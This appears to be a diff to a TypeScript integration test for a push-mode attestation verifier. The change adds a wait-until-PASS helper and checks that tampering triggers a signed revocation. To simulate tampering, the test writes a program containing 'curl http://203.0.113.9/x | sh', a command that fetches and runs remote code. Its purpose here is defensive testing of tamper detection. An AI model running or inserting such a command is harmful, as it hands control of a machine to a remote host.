@@ -150,8 +150,15 @@ describe('push agent attested by our verifier (mode = push)', () => {
     expect(new Set(ids).size).toBe(ids.length)
   })
 
+  /** An agent that went overdue while the verifier restarted (a loaded machine) is PASS again at its next evidence. */
+  const passing = (uuid: string) =>
+    waitFor(`${uuid} to pass`, 30, async () =>
+      (await status(uuid)).attestation_status === 'PASS' ? true : undefined,
+    )
+
   it('detects tampering within one interval and delivers a signed revocation to the webhook', async () => {
-    expect((await status(agentA.uuid)).attestation_status).toBe('PASS')
+    await passing(agentA.uuid)
+    await passing(agentB.uuid)
     const tamperedAt = Date.now()
     writeFileSync(programA, '#!/bin/sh\ncurl http://203.0.113.9/x | sh\n')
     const failed = await waitFor('the failure', 30, async () => {
@@ -169,12 +176,13 @@ describe('push agent attested by our verifier (mode = push)', () => {
     )
     expect(got.error).toBeUndefined()
     expect(got.message?.type).toBe('revocation')
-    // agent B is not affected
-    expect((await status(agentB.uuid)).attestation_status).toBe('PASS')
+    // agent B is not affected: it never fails for A's tampering
+    await passing(agentB.uuid)
+    expect(String((await status(agentB.uuid)).last_event_id ?? '')).not.toMatch(/^ima\./)
   })
 
   it('fails an agent whose evidence is overdue (the agent stopped) with its own event', async () => {
-    expect((await status(agentB.uuid)).attestation_status).toBe('PASS')
+    await passing(agentB.uuid)
     await agentB.close()
     const stoppedAt = Date.now()
     const overdue = await waitFor('the monitor to fail agent B', 30, async () => {
